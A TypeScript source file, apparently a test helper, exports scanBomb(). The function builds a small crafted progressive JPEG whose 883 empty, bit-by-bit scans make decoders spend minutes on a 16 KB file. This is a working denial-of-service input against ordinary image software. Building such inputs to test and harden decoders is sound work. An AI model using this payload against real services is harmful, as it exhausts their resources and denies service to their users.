/** Blocks across and down: 1448 × 1448 pixels. */
const BLOCKS = 181;

/**
 * A grey progressive JPEG of 2 megapixels in 16 KB, with as many scans as the standard allows: each coefficient comes bit by
 * bit (T.81 §G.1.2), 883 scans in all, which say nothing. Copying them sixteen times takes minutes.
 */
export function scanBomb(): Uint8Array {
  const scans = [scan(0, 0, 0x00, Buffer.alloc(Math.ceil(BLOCKS ** 2 / 8)))];
  for (let coefficient = 1; coefficient < 64; coefficient++) {
    for (let bit = 13; bit >= 0; bit--) {
      // One run of ends of band over all blocks: a code of one bit, then 14 bits.
      const approximation = bit === 13 ? 0x0d : ((bit + 1) << 4) | bit;
      scans.push(scan(coefficient, coefficient, approximation, Buffer.from([0x7f, 0xff, 0x00])));
    }
  }
  const side = BLOCKS * 8;
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
    segment(0xc2, [8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0]),
    segment(0xc4, [0x00, ...oneCode(0x00)]),
    segment(0xc4, [0x10, ...oneCode(0xe0)]),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A Huffman table of one code, which is one bit long. */
function oneCode(symbol: number): number[] {
  return [1, ...Array.from({ length: 15 }, () => 0), symbol];
}

function scan(first: number, last: number, approximation: number, coded: Uint8Array): Buffer {
  return Buffer.concat([segment(0xda, [1, 1, 0x00, first, last, approximation]), coded]);
}

function segment(marker: number, body: readonly number[]): Buffer {
  const length = body.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...body]);
}
